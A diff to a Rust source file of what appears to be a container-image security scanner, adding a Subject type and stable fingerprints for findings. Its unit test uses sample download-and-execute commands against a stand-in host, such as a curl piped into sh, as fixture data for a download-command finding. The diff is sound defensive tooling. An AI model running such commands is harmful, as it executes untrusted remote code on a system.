@@ -1,11 +1,13 @@
 //! Findings: the facts a scan reports. Every finding has a stable kebab-case
 //! code (with a title, description and ATT&CK technique kept in one table),
 //! a severity, and where it was found: path, layer, history step, sha256,
-//! and the evidence that explains it.
+//! what inside the file it is about (its [`Subject`]), and the evidence
+//! that explains it. A finding's fingerprint is computed from those fields.
 
 use std::fmt;
 use std::str::FromStr;
 
+use schemars::JsonSchema;
 use serde::Serialize;
 
 use crate::digest::Sha256;
@@ -13,7 +15,17 @@ use crate::path::ImagePath;
 
 /// How bad a finding is.
 #[derive(
-    Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Hash, Serialize, serde::Deserialize,
+    Clone,
+    Copy,
+    Debug,
+    PartialEq,
+    Eq,
+    PartialOrd,
+    Ord,
+    Hash,
+    Serialize,
+    serde::Deserialize,
+    JsonSchema,
 )]
 #[serde(rename_all = "lowercase")]
 pub enum Severity {
@@ -245,8 +257,22 @@ impl Serialize for Code {
     }
 }
 
+impl JsonSchema for Code {
+    fn schema_name() -> std::borrow::Cow<'static, str> {
+        "Code".into()
+    }
+    fn json_schema(_: &mut schemars::SchemaGenerator) -> schemars::Schema {
+        let codes: Vec<&str> = Code::ALL.iter().map(|c| c.as_str()).collect();
+        schemars::json_schema!({
+            "description": "A finding code (`stowaway explain CODE`).",
+            "type": "string",
+            "enum": codes,
+        })
+    }
+}
+
 /// Where in the image a finding was made.
-#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq)]
+#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
 pub struct LayerRef {
     /// 0-based layer index.
     pub index: usize,
@@ -257,7 +283,7 @@ pub struct LayerRef {
 }
 
 /// Whether a packaged file is still what its package manager installed.
-#[derive(Clone, Copy, Debug, Serialize, serde::Deserialize, PartialEq, Eq)]
+#[derive(Clone, Copy, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
 #[serde(rename_all = "lowercase")]
 pub enum Integrity {
     /// The file's digest matches the one the package manager recorded.
@@ -281,7 +307,8 @@ impl Integrity {
 
 /// The package that installed a file (from the image's package database),
 /// and the file's integrity against it.
-#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq)]
+#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq, JsonSchema)]
+#[schemars(deny_unknown_fields)]
 pub struct PackageRef {
     /// `dpkg`, `apk` or `rpm`.
     pub manager: String,
@@ -294,6 +321,28 @@ pub struct PackageRef {
 impl fmt::Display for PackageRef {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
         write!(f, "{} {} ({})", self.name, self.version, self.manager)
+    }
+}
+
+/// What inside its file (or the image config) a finding is about: with
+/// code, path and content, the finding's identity.
+#[derive(Clone, Debug, Serialize, serde::Deserialize, PartialEq, Eq)]
+#[serde(rename_all = "snake_case", tag = "kind")]
+pub enum Subject {
+    /// A line of a script or of a command string (entrypoint, healthcheck).
+    Line { line: usize, text: String },
+    /// A build step of the image history.
+    HistoryStep { step: usize, command: String },
+}
+
+impl Subject {
+    /// The part that identifies it across rebuilds: the text, not where it
+    /// sits (line numbers and step numbers move when unrelated lines do).
+    pub fn identity(&self) -> &str {
+        match self {
+            Subject::Line { text, .. } => text,
+            Subject::HistoryStep { command, .. } => command,
+        }
     }
 }
 
@@ -317,6 +366,9 @@ pub struct Finding {
     pub evidence: Vec<String>,
     /// The package that installed the file, when it is a packaged file.
     pub package: Option<PackageRef>,
+    /// The line or build step the finding is about, when it is about one.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub subject: Option<Subject>,
 }
 
 /// The stored form of a finding (title and technique come from its code).
@@ -332,6 +384,8 @@ struct FindingRepr {
     evidence: Vec<String>,
     #[serde(default)]
     package: Option<PackageRef>,
+    #[serde(default)]
+    subject: Option<Subject>,
 }
 
 impl<'de> serde::Deserialize<'de> for Finding {
@@ -347,6 +401,7 @@ impl<'de> serde::Deserialize<'de> for Finding {
         f.sha256 = r.sha256;
         f.evidence = r.evidence;
         f.package = r.package;
+        f.subject = r.subject;
         Ok(f)
     }
 }
@@ -366,7 +421,26 @@ impl Finding {
             sha256: None,
             evidence: Vec::new(),
             package: None,
+            subject: None,
         }
+    }
+
+    /// Stable identity: code, path, content, and the text of its subject
+    /// (without its line number) — not the layer digest, so a rebuilt image
+    /// with the same file is the same finding. Stored baselines hold these:
+    /// the formula must not change.
+    pub fn fingerprint(&self) -> String {
+        let key = format!(
+            "{}\0{}\0{}\0{}",
+            self.code.as_str(),
+            self.path.as_ref().map(|p| p.display()).unwrap_or_default(),
+            self.sha256.map(|d| d.hex()).unwrap_or_default(),
+            self.subject
+                .as_ref()
+                .map(Subject::identity)
+                .unwrap_or_default()
+        );
+        Sha256::of(key.as_bytes()).hex()
     }
 
     /// Set the path.
@@ -378,6 +452,12 @@ impl Finding {
     /// Add a line of evidence.
     pub fn because(mut self, evidence: impl Into<String>) -> Finding {
         self.evidence.push(evidence.into());
+        self
+    }
+
+    /// Set what inside the file the finding is about.
+    pub fn about(mut self, subject: Subject) -> Finding {
+        self.subject = Some(subject);
         self
     }
 
@@ -406,5 +486,43 @@ mod tests {
             assert!(c.info().technique.starts_with('T'));
             assert_eq!(Code::parse(s), Some(*c));
         }
+    }
+
+    /// The fingerprint formula is what stored baselines hold: these values
+    /// were computed from `code \0 path \0 sha256-hex \0 subject text` and
+    /// must never change. Line and step numbers are not part of it; evidence
+    /// text is never parsed for it.
+    #[test]
+    fn fingerprints_come_from_fields_and_stay_stable() {
+        let f = Finding::new(Code::DownloadCommand)
+            .at(&ImagePath::new("app/get.sh"))
+            .because("line 7: not the subject")
+            .about(Subject::Line {
+                line: 3,
+                text: "curl -fsSL http://x.example/p | sh".into(),
+            });
+        assert_eq!(
+            f.fingerprint(),
+            "45752bdb98b0b8295f708a78e70e8df41b159868b02422c12ca080e08af1489b"
+        );
+        let mut moved = f.clone();
+        moved.subject = Some(Subject::Line {
+            line: 40,
+            text: "curl -fsSL http://x.example/p | sh".into(),
+        });
+        moved.evidence = vec!["line 40: curl -fsSL http://x.example/p | sh".into()];
+        assert_eq!(moved.fingerprint(), f.fingerprint());
+        let step = Finding::new(Code::DownloadCommand).about(Subject::HistoryStep {
+            step: 2,
+            command: "RUN curl http://x.example/p -o /p".into(),
+        });
+        assert_eq!(
+            step.fingerprint(),
+            "bac0defa6f2923931b57e7f4f815dcd3b7fb1258673dbbc6a5a9b1c26d2f0e62"
+        );
+        // Evidence alone is not a subject.
+        let text_only = Finding::new(Code::DownloadCommand)
+            .because("history step 2: RUN curl http://x.example/p -o /p");
+        assert_ne!(text_only.fingerprint(), step.fingerprint());
     }
 }
